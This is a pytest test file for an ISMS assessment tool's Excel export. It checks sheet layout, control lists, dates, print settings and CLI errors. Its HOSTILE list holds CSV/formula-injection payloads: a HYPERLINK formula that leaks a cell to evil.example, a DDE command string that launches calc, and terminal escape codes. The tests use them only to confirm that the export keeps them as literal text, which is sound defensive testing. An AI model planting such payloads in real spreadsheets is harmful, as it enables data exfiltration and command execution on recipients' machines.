"""The Excel export, read back with openpyxl (and opened by LibreOffice where installed)."""

from __future__ import annotations

import shutil
import stat
import subprocess
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from isms_tui.exports.xlsx import export_assessment
from isms_tui.model import Assessment
from isms_tui.service import Workspace
from tests.conftest import run_cli

SHEETS = {
    "ja": ["概要", "ギャップ一覧", "対応計画", "適用宣言書", "回答一覧", "取得ロードマップ"],
    "en": ["Summary", "Gap list", "Action plan", "Statement of Applicability", "Answers", "Roadmap"],
}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "{=1+1}",
    "http://example.com/phish",
    "external:C:\\secret.xlsx",
    "tab\there and\nnewline",
    "ctrl\x07\x1b[31mchars\x9b",
    "0123",
    "1e10",
    "[bold]markup[/x]",
]


@pytest.fixture(scope="module")
def full_2022(tmp_path_factory):
    """A fully answered 2022 assessment with the shipped banks (and hostile notes)."""
    root = tmp_path_factory.mktemp("x")
    ws = Workspace(root / "data")
    a = Assessment(organization="株式会社テスト =cmd", scope="本社", kind="initial", edition="2022", lang="ja",
                   target_date="2027-06-01", participants=["山田", "=evil"])
    ws.create(a)
    with ws.open(a.id) as s:
        cycle = ["implemented", "partial", "not_implemented", "unknown", "implemented"]
        for n, item in enumerate(s.items):
            st = cycle[n % len(cycle)]
            if n % 17 == 0 and item.na_allowed:
                s.set_status(item.id, "not_applicable", na_justification=HOSTILE[n % len(HOSTILE)] + " (no such activity here)")
                continue
            s.set_status(item.id, st)
            s.set_fields(item.id, note=HOSTILE[n % len(HOSTILE)], evidence=f"証拠 {n}", owner="佐藤",
                         due="2027-01-15" if n % 3 == 0 else None)
            if item.every_months:
                s.set_fields(item.id, last_done="2026-09-01")
        s.edit_action("question:" + next(i.id for i in s.items if s.answers[i.id].status == "partial"), status="done", due="2026-01-01")
    return ws, a.id


@pytest.mark.parametrize("lang", ["ja", "en"])
def test_workbook_structure(full_2022, tmp_path: Path, lang: str):
    ws, aid = full_2022
    path = export_assessment(ws, aid, tmp_path / "out.xlsx", lang=lang, today=date(2026, 11, 27))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]  # no temp file left
    wb = load_workbook(path)
    assert wb.sheetnames == SHEETS[lang]
    summary, gaps, plan, soa, answers, roadmap = (wb[n] for n in SHEETS[lang])
    assessment, ans, edits = ws.load(aid)
    rep = ws.view(aid, date(2026, 11, 27)).report

    # summary: computed numbers, not formulas
    values = {summary.cell(r, 1).value: summary.cell(r, 2).value for r in range(1, 40)}
    key = "準備度(全体)" if lang == "ja" else "Overall readiness"
    assert values[key] == pytest.approx(rep.overall.readiness)
    assert isinstance(values[key], float)
    assert values["組織" if lang == "ja" else "Organization"] == "株式会社テスト =cmd"
    assert len(summary._charts) == 2
    for row in summary.iter_rows():
        for c in row:
            assert c.data_type != "f", c.coordinate

    # gap list: every gap, sorted by priority
    gap_ids = [i.id for b in ws.banks_for(assessment) for i in b.items if rep.statuses[i.id] not in ("implemented", "not_applicable")]
    assert gaps.max_row - 1 == len(gap_ids) + len(rep.overdue)
    headers = [c.value for c in gaps[1]]
    assert headers[0] == ("参照" if lang == "ja" else "Refs") and len(headers) == 11
    prios = [gaps.cell(r, 11).value for r in range(2, gaps.max_row + 1)]
    order = {"高": 1, "中": 2, "低": 3, "High": 1, "Medium": 2, "Low": 3}
    assert [order[p] for p in prios] == sorted(order[p] for p in prios)

    # action plan: table, date cells, dropdown, conditional format, frozen header
    assert plan.freeze_panes == "A2"
    assert "ActionPlan" in plan.tables
    assert plan.tables["ActionPlan"].ref.startswith("A1:H")
    dv = plan.data_validations.dataValidation
    assert len(dv) == 1 and dv[0].type == "list"
    assert ("完了" if lang == "ja" else "Done") in dv[0].formula1
    assert len(plan.conditional_formatting) == 1
    cf = list(plan.conditional_formatting)[0]
    assert "TODAY()" in cf.rules[0].formula[0]
    due_cells = [plan.cell(r, 6).value for r in range(2, plan.max_row + 1) if plan.cell(r, 6).value is not None]
    assert due_cells and all(isinstance(v, datetime) for v in due_cells)
    assert datetime(2027, 1, 15) in due_cells

    # SoA: all 93 controls, 2013 ids, N/A justification carried
    assert soa.max_row == 94
    ids = [soa.cell(r, 1).value for r in range(2, 95)]
    assert ids[0] == "A.5.1" and ids[-1] == "A.8.34"
    row_58 = next(r for r in range(2, 95) if soa.cell(r, 1).value == "A.5.7")
    assert soa.cell(row_58, 7).value in ("(2022年版で新設)", "(new in 2022)")
    row_51 = next(r for r in range(2, 95) if soa.cell(r, 1).value == "A.5.1")
    assert soa.cell(row_51, 7).value == "A.5.1.1, A.5.1.2"

    # answers: every item
    total = sum(len(b.items) for b in ws.banks_for(assessment))
    assert answers.max_row == total + 1

    # roadmap: real dates from the target date
    starts = [roadmap.cell(r, 3).value for r in range(2, 21) if isinstance(roadmap.cell(r, 3).value, datetime)]
    assert len(starts) == 19 and max(starts) < datetime(2027, 9, 1)

    # print setup and properties
    for sheet in wb.worksheets:
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage  # fit to one page wide
        assert sheet.page_setup.fitToHeight in (0, "0")  # as many pages tall as needed
    assert wb.properties.company if hasattr(wb.properties, "company") else True
    assert wb.properties.title.startswith("ISMS")


def test_hostile_text_stays_literal(full_2022, tmp_path: Path):
    ws, aid = full_2022
    path = export_assessment(ws, aid, tmp_path / "h.xlsx", lang="en")
    wb = load_workbook(path)
    seen = set()
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} became a formula: {c.value!r}"
                assert c.hyperlink is None, f"{sheet.title}!{c.coordinate} became a link"
                if isinstance(c.value, str):
                    assert "\x1b" not in c.value and "\x07" not in c.value and "\x9b" not in c.value
                    seen.add(c.value)
    for h in HOSTILE:
        if "\x07" in h:
            continue
        assert h in seen, h
    assert "ctrl[31mchars" in seen
    assert "0123" in seen  # stays text, not the number 123
    # and the raw XML holds no formula elements
    import zipfile

    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml, name
            assert not name.startswith("xl/worksheets/_rels") or b"hyperlink" not in z.read(name)


def test_column_widths_follow_east_asian_width(full_2022, tmp_path: Path):
    ws, aid = full_2022
    wb = load_workbook(export_assessment(ws, aid, tmp_path / "w.xlsx", lang="ja"))
    soa = wb["適用宣言書"]
    # the title column holds full-width text: its width is close to twice the character count
    longest = max(len(soa.cell(r, 2).value) for r in range(2, 95))
    assert soa.column_dimensions["B"].width >= min(60, 2 * longest * 0.9)


def test_cli_export_and_errors(full_2022, tmp_path: Path):
    ws, aid = full_2022
    r = run_cli("export", aid, "--lang", "en", data_dir=ws.root, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    out = Path(r.stdout.strip().splitlines()[-1])
    assert out.exists() and out.parent == tmp_path and out.name.endswith(".xlsx") and "_ISMS_" in out.name
    r = run_cli("export", "deadbeef", data_dir=ws.root)
    assert r.returncode == 1 and len(r.stderr.strip().splitlines()) == 1
    r = run_cli("export", aid, "--xlsx", "/nonexistent-dir/x.xlsx", data_dir=ws.root)
    assert r.returncode == 1 and ("cannot write" in r.stderr or "書き込めません" in r.stderr)
    assert len(r.stderr.strip().splitlines()) == 1
    from isms_tui.service import StorageError

    with pytest.raises(StorageError, match="cannot write /proc/nope/x.xlsx"):  # written through the service
        export_assessment(ws, aid, Path("/proc/nope/x.xlsx"), lang="ja")


def test_export_without_target_date_and_2013(tmp_path: Path):
    ws = Workspace(tmp_path / "d")
    a = Assessment(organization="Old KK", edition="2013", lang="en")
    ws.create(a)
    with ws.open(a.id) as s:
        s.set_status("a13-a.5.1.1-1", "implemented")
    wb = load_workbook(export_assessment(ws, a.id, tmp_path / "o.xlsx", lang="en"))
    soa = wb["Statement of Applicability"]
    assert soa.max_row == 115 and soa.max_column == 6
    roadmap = wb["Roadmap"]
    assert all(roadmap.cell(r, 3).value is None for r in range(2, 21))


def test_libreoffice_opens_the_workbook(full_2022, tmp_path: Path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        pytest.skip("LibreOffice (soffice) is not installed: `apt-get install libreoffice-calc` to run this check")
    ws, aid = full_2022
    path = export_assessment(ws, aid, tmp_path / "lo.xlsx", lang="ja")
    outdir = tmp_path / "conv"
    env = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
    r = subprocess.run([soffice, "--headless", "--norestore", "--convert-to", "xlsx:Calc MS Excel 2007 XML",
                        "--outdir", str(outdir), str(path)], capture_output=True, text=True, timeout=300, env=env)
    assert r.returncode == 0, r.stderr
    converted = outdir / "lo.xlsx"
    assert converted.exists(), r.stdout + r.stderr
    wb = load_workbook(converted)
    assert wb.sheetnames == SHEETS["ja"]
    assessment, ans, _ = ws.load(aid)
    rep = ws.view(aid).report
    summary = wb["概要"]
    values = {summary.cell(r, 1).value: summary.cell(r, 2).value for r in range(1, 40)}
    assert values["準備度(全体)"] == pytest.approx(rep.overall.readiness, abs=1e-9)
    assert values["回答率"] == pytest.approx(rep.overall.coverage, abs=1e-9)
    # the csv of the first sheet opens too (every sheet converted without error above)
    r = subprocess.run([soffice, "--headless", "--norestore", "--convert-to", "csv", "--outdir", str(outdir), str(path)],
                       capture_output=True, text=True, timeout=300, env=env)
    assert r.returncode == 0 and (outdir / "lo.csv").exists()
